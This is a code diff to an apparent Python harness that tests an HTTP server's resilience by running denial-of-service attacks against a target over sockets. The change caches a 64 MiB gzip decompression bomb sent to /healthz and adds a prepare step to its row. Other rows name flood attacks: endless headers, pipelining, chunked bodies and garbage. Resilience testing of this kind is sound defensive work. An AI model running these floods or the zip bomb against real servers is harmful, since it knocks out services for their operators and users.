@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import functools
 import gzip
 import os
 import socket
@@ -91,9 +92,14 @@ def pipeline_in_steps(target: Target, seconds: float) -> dict[str, int]:
     return _each(target, seconds, attack)
 
 
+@functools.cache
+def _bomb() -> bytes:
+    return gzip.compress(bytes(64 << 20), 9)
+
+
 def bodies(target: Target, seconds: float) -> dict[str, int]:
     """Compressed bodies on a path that anybody may ask for: a mebibyte sent is a gibibyte inflated."""
-    bomb = gzip.compress(bytes(64 << 20), 9)
+    bomb = _bomb()
     head = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\n"
 
     def attack(connection: socket.socket, until: Until) -> int:
@@ -158,7 +164,7 @@ ROWS = (
     Row("http endless header", one_header, FLOOD),
     Row("http pipeline", pipeline, FLOOD),
     Row("http pipeline in steps", pipeline_in_steps, FLOOD),
-    Row("http zip bomb", bodies, FLOOD),
+    Row("http zip bomb", bodies, FLOOD, prepare=_bomb),
     Row("http chunked", chunked, FLOOD),
     Row("http garbage", garbage, FLOOD),
     Row("http silence", silence),
